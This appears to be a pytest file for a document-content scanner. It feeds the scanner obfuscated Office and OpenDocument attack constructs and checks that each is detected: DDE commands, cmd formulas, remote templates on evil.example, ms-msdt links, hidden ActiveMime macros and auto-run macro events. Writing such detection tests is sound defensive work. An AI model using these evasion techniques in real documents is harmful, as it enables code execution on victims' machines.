"""OOXML, OpenDocument, MHT and SpreadsheetML that hide what they hold from whoever reads them by the book."""

from __future__ import annotations

import base64
import zlib

import pytest

from contentfilter.content.scan import scan_document
from tests.samples.archives import plain_zip
from tests.samples.office import CONTENT_TYPES, MACRO, docm, docx, vba_project

from ..scanned import found

SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ACTIVE_MIME = b"ActiveMime" + bytes(0x32 - 10) + zlib.compress(vba_project(MACRO))


def instruction(raw: str, extra: str = "") -> bytes:
    return (
        f'<w:document><w:fldChar w:fldCharType="begin"/><w:instrText{extra}>{raw}</w:instrText>'
        '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/></w:document>'
    ).encode()


DDE = {
    "comment": instruction("D<!-- x -->DE cmd"),
    "cdata": instruction("<![CDATA[DDE cmd]]>"),
    "processing instruction": instruction("DD<?x y?>E cmd"),
    "attribute with a bracket": instruction("DDE cmd", ' x="a>b"'),
    "long attributes": instruction("DDE cmd", f' x="{"a" * 5000}"'),
    "prefix that is no ASCII": instruction("DDE cmd").replace(b"w:", "ä.1:".encode()),
    "inside another": instruction("HYPERLINK x").replace(
        b"HYPERLINK x", b'HYPERLINK x</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd'
    ),
    "without a begin": b"<w:document><w:instrText>DDE cmd</w:instrText></w:document>",
    "mark quoted otherwise": instruction("DDE cmd").replace(b'="begin"', b" = 'begin'"),
    "utf-7": b'<?xml version="1.0" encoding="utf-7"?>' + instruction("DDE cmd").replace(b"<w", b"+ADw-w"),
    "power point action": b'<p:sld><a:hlinkMouseOver r:id="" action="ppaction://program"/></p:sld>',
    "formula in a cell": b"<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>",
}


@pytest.mark.parametrize("xml", DDE.values(), ids=DDE.keys())
def test_dde(xml: bytes):
    assert found(docx(extra={"word/x.xml": xml})) == {"office-dde"}


def relation(attributes: str) -> bytes:
    return docx(
        extra={
            "word/_rels/x.xml.rels": f"<Relationships><Relationship {attributes}/></Relationships>".encode()
        }
    )


def external(kind: str = "attachedTemplate", scheme: str = "https", space: str = SPACE) -> str:
    return f'Id="r1" Type="{space}{kind}" Target="{scheme}://evil.example/t" TargetMode="External"'


STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
REMOTE, SHEET = {"office-remote-template"}, {"office-xlm-macro"}
RUNS = REMOTE | {"executable"}


@pytest.mark.parametrize(
    ("attributes", "names"),
    [
        (external(), REMOTE),
        (external().replace("/t", "/t>x"), REMOTE),
        (external().replace('"', "'"), REMOTE),
        (external().replace("=", " = "), REMOTE),
        (external().replace("External", "&#69;xternal"), REMOTE),
        (external("&#97;ttachedTemplate"), REMOTE),
        (external(space=STRICT), REMOTE),
        (external("mailMergeSource"), REMOTE),
        (external("oleObject", "script:https"), RUNS),
        (external("oleObject", "mhtml:https"), REMOTE),
        (external("hyperlink", "ms-msdt"), RUNS),
        (external("hyperlink", "search-ms"), RUNS),
        (external("oleObject").replace("/t", "/t!"), RUNS),
        (external("oleObject"), REMOTE),
        (external("attachedTemplate").replace("/t", "/t!"), REMOTE),
        (external("hyperlink"), set()),
        (external("image"), set()),
        (external().replace("External", "Internal"), set()),
        (f'Id="r1" Type="{SPACE}xlMacrosheet" Target="m.bin"', SHEET),
        (f'Id="r1" Type="{SPACE}xlIntlMacrosheet" Target="m.bin"', SHEET),
        (f'Id="r1" Type="{SPACE}xl&#77;acrosheet" Target="m.bin"', SHEET),
        (f'Id="r1" Type="{SPACE}worksheet" Target="m.bin"', set()),
    ],
)
def test_relations(attributes: str, names: set[str]):
    assert found(relation(attributes)) == names


@pytest.mark.parametrize("kind", ["&#109;acrosheet+xml", "intl&#x6d;acrosheet", "MacroSheet"])
def test_macro_sheets_by_a_type_that_is_spelt_otherwise(kind: str):
    entry = f"<Override PartName='/xl/s.bin' ContentType='application/vnd.ms-excel.{kind}'/></Types>"
    types = CONTENT_TYPES.replace(b"</Types>", entry.encode())
    assert found(plain_zip({"[Content_Types].xml": types})) == {"office-xlm-macro"}


@pytest.mark.parametrize(
    ("callback", "names"),
    [
        ("onLoad='https://evil.example/t.dotm!x'", REMOTE),
        ('onLoad = "\\\\evil.example\\t\\t.dotm!x"', REMOTE),
        ('onAction="&#104;ttps://evil.example/t.dotm!x"', REMOTE),
        ('onLoad="Ribbon_Load"', set()),
        ('onLoad="other.xlam!Ribbon_Load"', set()),
        ('tag="https://fine.example/!"', set()),
    ],
)
def test_ribbon_that_calls_elsewhere(callback: str, names: set[str]):
    xml = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" {callback}/>'
    assert found(docx(extra={"customUI/customUI.xml": xml.encode()})) == names
    assert found(docx(extra={"word/x.xml": f"<x {callback}/>".encode()})) == set()


def test_stylesheet_from_elsewhere():
    xml = b'<?xml version="1.0"?><?mso-application progid="x"?><?xml-stylesheet type="y" href="%s"?><x/>'
    assert found(xml % b"http://evil.example/x.xsl") == {"office-remote-template"}
    assert found(xml % b"local.xsl") == set()
    assert found((xml % b"http://fine.example/").replace(b"mso-application", b"x")) == set()


@pytest.mark.parametrize(
    ("xml", "names"),
    [
        (b'<w:wordDocument><w:docPr><w:attachedTemplate w:val="https://evil.example/t.dot"/>', REMOTE),
        (b'<html><!--[if gte mso 9]><xml><w:AttachedTemplate HRef="\\\\evil\\x\\t.dot"/>', REMOTE),
        (b"<html><link rel=Edit-Time-Data href=http://evil.example/editdata.mso>", REMOTE),
        (b"<html><link rel=Edit-Time-Data href='x_files/editdata.mso'>", set()),
        (b"<html><link rel=stylesheet href=http://fine.example/x.css>attachedTemplate", set()),
        (b'<w:settings><w:attachedTemplate r:id="rId1"/>', set()),
        (b'<office:document-meta><meta:template xlink:href="http://evil.example/t.ott"/>', REMOTE),
        (b'<office:document-content><text:section-source xlink:href="http://evil.example/x"/>', REMOTE),
        (b'<office:document-content><text:a xlink:href="http://fine.example/x"/>', set()),
    ],
)
def test_templates_named_in_documents(xml: bytes, names: set[str]):
    assert found(xml) == names


ADD_IN = (
    '<Properties><property fmtid="{D}" pid="2" name="_AssemblyName"><vt:lpwstr>4E3C</vt:lpwstr></property>'
    '<property fmtid="{D}" pid="3" name="_AssemblyLocation"><vt:lpwstr>%s|0a|vstolocal</vt:lpwstr></property>'
)


@pytest.mark.parametrize(
    ("place", "names"),
    [
        ("https://evil.example/a.vsto", REMOTE),
        ("\\\\192.0.2.1\\a\\a.vsto", REMOTE),
        ("file:///C:/Program Files/a/a.vsto", set()),
        ("a.vsto", set()),
    ],
)
def test_add_in_that_comes_with_a_document(place: str, names: set[str]):
    assert found(docx(extra={"docProps/custom.xml": (ADD_IN % place).encode()})) == names


# ActiveMime.


@pytest.mark.parametrize(
    "data",
    [
        b"junk before the header\r\n\r\nMIME-Version: 1.0\r\n\r\n" + base64.encodebytes(ACTIVE_MIME),
        b"<html><!-- " + base64.b64encode(ACTIVE_MIME) + b" -->",
        b"x" * 1000 + base64.encodebytes(ACTIVE_MIME).replace(b"\n", b"\r\n\t ") + b"--b",
        b"%PDF-1.7\n" + bytes(100) + b"\n" * 3000 + base64.encodebytes(ACTIVE_MIME) + b"--b",
        b"\xff\xd8\xff\xe0" + bytes(99) + b"\r\nMime-Version: 1.0\r\n\r\n" + base64.encodebytes(ACTIVE_MIME),
        b"QWN0aXZlTWlt" + b"!" + base64.encodebytes(ACTIVE_MIME),
    ],
)
def test_active_mime_in_what_nobody_else_reads(data: bytes):
    assert found(data) >= {"office-macro", "office-macro-suspicious"}


def test_active_mime_without_number():
    result = scan_document("x", b"QWN0aXZlTWltZQ!" * 100)
    assert "too-large" in {item.reason for item in result.unscanned}


# OpenDocument.

MANIFEST = {"META-INF/manifest.xml": b"<manifest:manifest/>"}


def event(name: str, target: str) -> bytes:
    return (
        "<office:document-content><office:scripts><office:event-listeners>"
        f'<script:event-listener script:event-name="{name}" xlink:href="{target}"/>'
    ).encode()


OWN = "vnd.sun.star.script:Template.Correspondence.Main?language=Basic&amp;location=application"
OLD_EVENT = b'<script:event script:language="StarBasic" script:event-name="on-load" script:macro-name="M.x"/>'
CLICK = b'<p:event-listener script:event-name="dom:click" p:action="%s" xlink:href="x"/>'
BASIC = b"<script:module script:language='StarBasic'>%s</script:module>"
URL = "vnd.sun.star.script:../../program/pydoc.py$tempfilepager?language=Python&amp;location=share"


@pytest.mark.parametrize(
    ("members", "names"),
    [
        ({"Scripts/python/x.py": b"import os"}, {"office-macro"}),
        ({"scripts/Python/deep/x.PY": b"import os"}, {"office-macro"}),
        ({"Scripts/javascript/lib/x.js": b"x"}, {"office-macro"}),
        ({"Scripts/beanshell/lib/parcel-descriptor.xml": b"<parcel/>"}, set()),
        ({"Pictures/python/x.py": b""}, set()),
        ({"content.xml": event("dom:load", URL)}, {"office-macro", "office-macro-suspicious"}),
        ({"content.xml": event("form:performaction", URL)}, {"office-macro"}),
        ({"content.xml": event("dom:load", "#page2")}, set()),
        # LibreOffice's own templates for letters.
        ({"content.xml": event("office:new", "application:Template.Correspondence.Placeholder")}, set()),
        ({"content.xml": event("office:new", OWN)}, set()),
        ({"content.xml": event("office:new", OWN.replace("application", "user"))}, {"office-macro"}),
        ({"content.xml": event("office:new", OWN.replace("Template", "Gimmicks"))}, {"office-macro"}),
        ({"content.xml": event("office:new", OWN.replace("Main", "../Main"))}, {"office-macro"}),
        ({"content.xml": OLD_EVENT}, {"office-macro", "office-macro-suspicious"}),
        ({"content.xml": CLICK % b"execute"}, {"office-dde"}),
        ({"content.xml": CLICK % b"show"}, set()),
        ({"content.xml": b'<x table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;)"/>'}, {"office-dde"}),
        ({"Basic/Standard/M.xml": BASIC % b"Sub Main : Shell(x) : End Sub"}, {"office-macro"}),
        ({"Basic/Standard/M.xml": BASIC % b"<![CDATA[Sub x\nBeep]]>"}, {"office-macro"}),
        ({"Basic/Standard/M.xml": BASIC % b"REM ***\n\nSub Main\n\nEnd Sub"}, set()),
    ],
)  # fmt: skip
def test_open_document(members: dict[str, bytes], names: set[str]):
    assert {name for name in found(plain_zip({**MANIFEST, **members})) if name != "executable"} == names


# Damaged packages, which Word repairs.


def test_package_that_is_cut_off_is_no_silent_pass():
    whole = docm()
    for size in range(40, len(whole), 97):
        result = scan_document("x.docm", whole[:size])
        assert result.findings or result.unscanned, size


RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)


@pytest.mark.parametrize(
    ("xml", "reasons"),
    [
        (CONTENT_TYPES, set()),
        (CONTENT_TYPES.decode().encode("utf-8-sig"), set()),
        (RELATIONS % b'<Relationship Id="a" Type="b" Target="c"/>', set()),
        (CONTENT_TYPES[:-4], {"malformed"}),
        (CONTENT_TYPES.replace(b"<Default", b"<Default<"), {"malformed"}),
        (CONTENT_TYPES.replace(b"?>", b'?><!DOCTYPE a [<!ENTITY b "c">]>', 1), {"malformed"}),
        (RELATIONS % b'<Relationship Id="a" Id="b"/>', {"malformed"}),
        (RELATIONS % b"\x00", {"malformed"}),
    ],
)
def test_package_that_must_be_repaired(xml: bytes, reasons: set[str]):
    result = scan_document("x", plain_zip({"[Content_Types].xml": CONTENT_TYPES, "x": xml}))
    assert {item.reason for item in result.unscanned} == reasons
    assert not result.findings


def test_package_of_other_content_types():
    plain = {"[Content_Types].xml": b"<broken", "_rels/.rels": b"", "a/b.dat": vba_project(MACRO)}
    assert found(plain_zip(plain)) >= {"office-macro"}
    assert found(plain_zip({"b.dat": vba_project(MACRO)})) >= {"office-macro"}
